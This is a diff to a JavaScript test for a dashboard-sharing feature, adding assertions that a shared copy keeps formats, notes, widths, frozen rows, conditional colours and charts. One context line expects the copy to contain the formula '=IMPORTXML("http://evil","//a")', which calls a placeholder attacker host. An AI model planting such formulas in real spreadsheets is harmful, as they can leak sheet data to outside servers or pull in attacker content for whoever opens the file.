@@ -204,5 +204,18 @@ describe('buildDashboard / refreshDashboard / shareReport', () => {
       for (let c = 0; c < original.values[r].length; c++) expect(copy.values[r]?.[c], `R${r + 1}C${c + 1}`).toEqual(original.values[r][c]);
     }
     expect(copy.values.flat()).toContain('=IMPORTXML("http://evil","//a")');
+    // It reads like the original: formats, notes, widths, frozen rows, sign colours and charts.
+    expect(copy.numberFormats).toEqual(original.numberFormats);
+    expect(copy.notes).toEqual(original.notes);
+    expect(copy.notes.flat().filter((n) => n !== '').length).toBeGreaterThan(5);
+    expect(copy.columnWidths).toEqual(original.columnWidths);
+    expect(copy.frozenRows).toBe(original.frozenRows);
+    expect(original.conditional.flat().filter((c) => c !== null).length).toBeGreaterThan(0);
+    expect(copy.conditional).toEqual(original.conditional);
+    expect(original.charts.length).toBeGreaterThanOrEqual(3);
+    expect(copy.charts.map((c) => [c.type, c.options.title, c.ranges.map((r) => r.a1), c.position])).toEqual(
+      original.charts.map((c) => [c.type, c.options.title, c.ranges.map((r) => r.a1), c.position]),
+    );
+    expect(copy.charts.map((c) => c.ranges.map((r) => r.values))).toEqual(original.charts.map((c) => c.ranges.map((r) => r.values)));
   });
 });
